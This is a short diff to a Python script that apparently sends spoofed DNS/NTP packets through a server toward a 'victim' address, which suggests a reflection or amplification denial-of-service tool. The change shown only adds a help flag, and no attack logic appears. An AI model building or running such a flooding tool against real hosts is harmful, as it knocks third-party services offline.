@@ -6,6 +6,8 @@ import random, sys, time
 from scapy.all import IP, UDP, DNS, DNSQR, NTP, send, conf
 
 def main():
+    if sys.argv[1:2] in (['-h'], ['--help']):
+        print(__doc__); return
     if len(sys.argv) != 6:
         sys.exit(__doc__)
     server, victim, port, count, gap = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
